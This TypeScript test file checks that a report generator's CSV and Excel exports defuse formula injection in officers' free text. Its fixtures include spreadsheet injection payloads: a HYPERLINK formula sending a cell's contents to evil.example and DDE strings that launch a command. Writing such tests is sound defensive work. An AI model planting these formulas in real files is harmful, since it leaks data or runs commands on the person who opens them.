// Free text typed by officers (the report's narrative, training and communication titles,
// places) goes into the report's CSV and workbook; none of it may run as a formula when the file
// is opened in Excel (issue #16, OWASP "CSV injection").
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { renderCsv } from './csv';
import { quarterData, sentReport } from './fixtures/quarter-2026-q1';
import { reportMeta } from './report-meta';
import type { ReportData } from './report-types';
import { renderXlsx } from './xlsx';

const hostile = {
  summary: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  difficulties: '+84 912 345 678',
  proposals: '@SUM(1+1)*cmd|" /C calc"!A0',
  course: '-2+3+cmd|" /C calc"!A0',
  title: '\t=1+1',
  place: '\r=1+1',
};

const data: ReportData = {
  ...quarterData,
  trainings: {
    ...quarterData.trainings,
    courses: [{ course: hostile.course, heldOn: '2026-02-24', attendees: 9 }],
  },
  communication: {
    ...quarterData.communication,
    activities: [
      {
        heldOn: '2026-01-15',
        title: hostile.title,
        placeName: hostile.place,
        audience: 'residents',
        reach: 120,
      },
    ],
  },
};
const narrative = {
  summary: hostile.summary,
  difficulties: hostile.difficulties,
  proposals: hostile.proposals,
};
const meta = reportMeta({ ...sentReport, narrative }, narrative, new Date('2026-04-06T02:00:00Z'));

const texts = Object.values(hostile);

describe('the periodic report keeps typed text from running as a formula', () => {
  it('writes every hostile text in the CSV behind an apostrophe', () => {
    const csv = renderCsv(data, meta);
    for (const text of texts) {
      const quoted = `'${text}`;
      const field = /[",\r\n]/.test(quoted) ? `"${quoted.replace(/"/g, '""')}"` : quoted;
      expect(csv, JSON.stringify(text)).toContain(`,${field}\r\n`);
    }
    // No field of any line starts with a formula character (a number's minus aside).
    const starts = csv
      .split('\r\n')
      .flatMap((line) => line.split(','))
      .map((f) => f.replace(/^"/, ''))
      .filter((f) => /^[=+@\t\r]/.test(f) || /^-(?!\d+(\.\d+)?$)/.test(f));
    expect(starts).toEqual([]);
  });

  it('writes every hostile text in the workbook behind an apostrophe', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await renderXlsx(data, meta)) as unknown as ArrayBuffer);
    const strings: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === 'string') strings.push(cell.value);
          expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined();
        }),
      ),
    );
    // XML keeps no bare carriage return: it reads back as a line feed.
    const lf = (text: string) => text.replace(/\r/g, '\n');
    for (const text of texts) {
      expect(strings.map(lf), JSON.stringify(text)).toContain(lf(`'${text}`));
    }
    expect(strings.filter((s) => /^[=+\-@\t\r]/.test(s))).toEqual([]);
  });
});
